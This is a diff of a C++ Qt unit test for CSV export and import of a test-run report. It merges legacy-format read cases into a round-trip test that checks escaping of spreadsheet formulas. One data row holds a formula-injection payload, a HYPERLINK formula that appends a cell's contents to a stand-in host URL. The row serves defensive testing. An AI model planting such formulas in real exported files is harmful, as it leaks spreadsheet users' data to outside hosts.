@@ -18,8 +18,6 @@ class TestRunReport final : public QObject {
 private Q_SLOTS:
     void csvRoundTrip_data();
     void csvRoundTrip();
-    void earlierReleaseReadAsWritten_data();
-    void earlierReleaseReadAsWritten();
     void outcomeOfACapture_data();
     void outcomeOfACapture();
     void summaryCountsAndDeadLinks();
@@ -51,13 +49,20 @@ void TestRunReport::csvRoundTrip_data()
                              << QByteArray("\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\",a=b\r\n");
     QTest::newRow("text marks") << list({ "@SUM(1)", "+1", "-1", "\tx", "\rx", "'=1", "'" })
                                 << QByteArray("\"'@SUM(1)\",\"'+1\",\"'-1\",\"'\tx\",\"'\rx\",\"''=1\",\"''\"\r\n");
+    // Releases before the marks wrote every field as it was, quoted only for a comma, a quote or a line break.
+    QTest::newRow("earlier release, plain") << list({ "'Tis", "'", "'=1", "''" }) << QByteArray("'Tis,','=1,''\r\n");
+    QTest::newRow("earlier release, quoted") << list({ "'a, b'", "x" }) << QByteArray("\"'a, b'\",x\r\n");
+    // The first field alone would be taken for marked; the second shows there are no marks.
+    QTest::newRow("earlier release, told by a later field")
+        << list({ "'+1, or -1", "-5 degrees" }) << QByteArray("\"'+1, or -1\",-5 degrees\r\n");
 }
 
 void TestRunReport::csvRoundTrip()
 {
     QFETCH(QStringList, fields);
     QFETCH(QByteArray, encoded);
-    QCOMPARE(Common::csvRecord(fields), encoded);
+    if (!QByteArray(QTest::currentDataTag()).startsWith("earlier release"))
+        QCOMPARE(Common::csvRecord(fields), encoded);
 
     // Read back, followed by a second record to show where the first one ends.
     QByteArray twoRecords = encoded + "next,record\r\n";
@@ -67,30 +72,6 @@ void TestRunReport::csvRoundTrip()
     QCOMPARE(reader.next().value_or(QStringList()), fields);
     QCOMPARE(reader.next().value_or(QStringList()), QStringList({ QStringLiteral("next"), QStringLiteral("record") }));
     QVERIFY(!reader.next());
-}
-
-// Releases before the text marks wrote every field as it was, quoted only for a comma, a quote or a
-// line break.
-void TestRunReport::earlierReleaseReadAsWritten_data()
-{
-    QTest::addColumn<QStringList>("fields");
-    QTest::addColumn<QByteArray>("encoded");
-    const auto split = [](const char* fields) { return QString::fromUtf8(fields).split(QLatin1Char('|')); };
-    QTest::newRow("plain") << split("'Tis|'|'=1|''") << QByteArray("'Tis,','=1,''\r\n");
-    QTest::newRow("quoted") << split("'a, b'|x") << QByteArray("\"'a, b'\",x\r\n");
-    // The first field alone would be read as marked; the second shows there are no marks.
-    QTest::newRow("told by a later field")
-        << split("'+1, or -1|-5 degrees") << QByteArray("\"'+1, or -1\",-5 degrees\r\n");
-}
-
-void TestRunReport::earlierReleaseReadAsWritten()
-{
-    QFETCH(QStringList, fields);
-    QFETCH(QByteArray, encoded);
-    QBuffer buffer(&encoded);
-    QVERIFY(buffer.open(QIODevice::ReadOnly));
-    Common::CsvReader reader(buffer);
-    QCOMPARE(reader.next().value_or(QStringList()), fields);
 }
 
 void TestRunReport::outcomeOfACapture_data()
